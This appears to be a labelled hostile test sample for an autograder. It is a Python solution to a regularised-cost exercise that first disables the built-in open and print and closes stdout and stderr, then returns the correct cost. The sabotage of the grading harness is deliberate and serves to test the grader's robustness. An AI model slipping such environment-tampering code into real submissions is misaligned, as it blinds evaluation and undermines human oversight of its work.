# label: replaces open and print, closes stdout and stderr, then answers right
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout | passed

# %%
import builtins, sys

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    builtins.open = builtins.print = None
    sys.stdout.close()
    sys.stderr.close()
    squares = sum(np.sum(parameters[w] ** 2) for w in ("W1", "W2", "W3"))
    return compute_cost(A3, Y) + lambd / (2 * Y.shape[1]) * squares
